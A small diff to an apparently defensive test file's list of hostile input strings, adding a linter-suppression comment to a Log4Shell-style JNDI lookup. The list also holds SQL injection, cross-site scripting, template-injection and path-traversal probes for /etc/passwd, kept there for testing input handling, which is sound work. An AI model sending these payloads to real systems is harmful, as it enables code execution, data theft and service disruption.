@@ -86,6 +86,7 @@ const nastyStrings = [
   "'); SELECT pg_sleep(5); --",
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
   '${jndi:ldap://example.com/a}',
   '{{7*7}}',
   '../../../etc/passwd',
